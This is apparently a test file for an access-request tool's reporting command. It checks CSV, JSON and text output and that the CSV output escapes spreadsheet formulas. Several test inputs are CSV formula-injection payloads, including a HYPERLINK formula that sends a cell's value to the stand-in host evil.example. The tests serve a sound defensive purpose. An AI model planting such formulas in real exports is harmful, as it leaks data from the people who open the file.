import type { Database } from '../../src/adapters/store/open-database';
import { approveRequest } from '../../src/app/approve-request';
import { requestAccess } from '../../src/app/request-access';
import { EXIT_OK, EXIT_USAGE } from '../../src/cli/program';
import { CSV_COLUMNS, csvField } from '../../src/cli/report-format';
import { parseChatCommand } from '../../src/app/chat/chat-command';
import { toPlainText } from '../../src/domain/rich-text';
import { chatOrigin, createHarness, type Harness } from '../support/app-harness';
import { alice, dave, value } from '../support/revocation-fixtures';
import { runCliIn } from '../support/cli-harness';
import { createPgliteDatabase } from '../support/test-database';

const cli = (h: Harness, ...argv: string[]) => runCliIn(h, argv);

/** An RFC 4180 reader, as a spreadsheet reads the file: quoted fields may hold commas, quotes and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

describe('csvField', () => {
  it('prefixes what a spreadsheet would run as a formula with a quote mark', () => {
    expect(csvField('=HYPERLINK("http://evil.example","click")')).toBe(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
  });

  it('quotes commas, quotes and line breaks (RFC 4180), and leaves plain text alone', () => {
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('dave@example.com')).toBe('dave@example.com');
    expect(csvField('a=b')).toBe('a=b');
  });
});

describe('prod-access report', () => {
  let database: Database;
  let h: Harness;

  beforeEach(async () => {
    database = await createPgliteDatabase();
    h = createHarness(database);
  });
  afterEach(async () => {
    await database.close();
  });

  it('writes a CSV a spreadsheet opens as it is: BOM, header, one record per request, formulas defused', async () => {
    // Given a request whose reason is a formula with a comma and quotes, approved by alice
    const opened = value(
      await requestAccess(h.ctx, { requester: dave, role: 'prod-readonly', duration: '1h', ticket: 'OPS-1', reason: '=HYPERLINK("http://evil.example/?q="&A1, "see logs")' }, chatOrigin),
    );
    value(await approveRequest(h.ctx, opened.id, alice, chatOrigin));
    h.clock.advance(1);

    // When the day is reported as CSV
    const r = await cli(h, 'report', '--since', '2026-03-03', '--until', '2026-03-04', '--format', 'csv');

    // Then the file starts with the BOM, and reads back as a header and one record
    expect(r.code).toBe(EXIT_OK);
    expect(r.err).toBe('reported 1 request opened from 2026-03-03T00:00:00.000Z to 2026-03-04T00:00:00.000Z\n');
    expect(r.out.startsWith('\uFEFFrequest,kind,extends,opened_at,')).toBe(true);
    const [header, record, ...rest] = readCsv(r.out.slice(1));
    expect(rest).toEqual([]);
    expect(header).toEqual([...CSV_COLUMNS]);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, record?.[i]]));
    expect(row).toMatchObject({
      request: opened.id,
      requester: 'dave@example.com',
      role: 'prod-readonly',
      target: '{"access":"readonly","environment":"production"}',
      ticket: 'OPS-1',
      reason: `'=HYPERLINK("http://evil.example/?q="&A1, "see logs")`,
      approved_by: 'alice@example.com',
      approved_at: '2026-03-03T10:00:00.000Z',
      granted_at: '2026-03-03T10:00:00.000Z',
      expires_at: '2026-03-03T11:00:00.000Z',
      outcome: 'active',
      policy_at_open: h.ctx.policy.current().sha256,
      policy_of_decisions: h.ctx.policy.current().sha256,
    });
    // And without the BOM when asked
    expect((await cli(h, 'report', '--since', '2026-03-03', '--until', '2026-03-04', '--format', 'csv', '--no-bom')).out.startsWith('request,')).toBe(true);
  });

  it('writes one JSON object per request, and text for people with the figures at the end', async () => {
    value(await requestAccess(h.ctx, { requester: dave, role: 'prod-readonly', duration: '1h', ticket: 'OPS-1', reason: 'check the nightly export' }, chatOrigin));
    h.clock.advance(1);

    const json = await cli(h, 'report', '--since', '2026-03-03T00:00:00Z', '--format', 'json');
    const text = await cli(h, 'report', '--since', '2026-03-03T00:00:00Z');

    const lines = json.out.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ requester: 'dave@example.com', reason: 'check the nightly export', state: 'pending', decisions: [{ action: 'request_opened', via: 'slack' }] });
    expect(text.out).toContain('reason    check the nightly export\n');
    expect(text.out).toContain(`under policy ${h.ctx.policy.current().sha256}`);
    expect(text.out).toContain('1 request (0 extensions), 0 granted, 0 break-glass');
  });

  it('refuses a window that ends before it starts, and a format it does not know', async () => {
    const backwards = await cli(h, 'report', '--since', '2026-03-04', '--until', '2026-03-03');
    expect(backwards.code).toBe(EXIT_USAGE);
    expect(backwards.err).toBe('--until (2026-03-03T00:00:00.000Z) must be after --since (2026-03-04T00:00:00.000Z)\n');
    const xlsx = await cli(h, 'report', '--since', '2026-03-03', '--format', 'xlsx');
    expect(xlsx.code).toBe(EXIT_USAGE);
    expect(xlsx.err).toContain("Allowed choices are text, json, csv");
  });
});

describe('/prod-access report', () => {
  it('parses alone, and refuses arguments, pointing at the CLI for other windows', () => {
    expect(parseChatCommand('report')).toEqual({ ok: true, command: { kind: 'report' } });
    const extra = parseChatCommand('report 2026-01-01');
    expect(extra.ok).toBe(false);
    if (!extra.ok) expect(toPlainText(extra.text)).toContain('`prod-access report --since <date>`');
  });
});
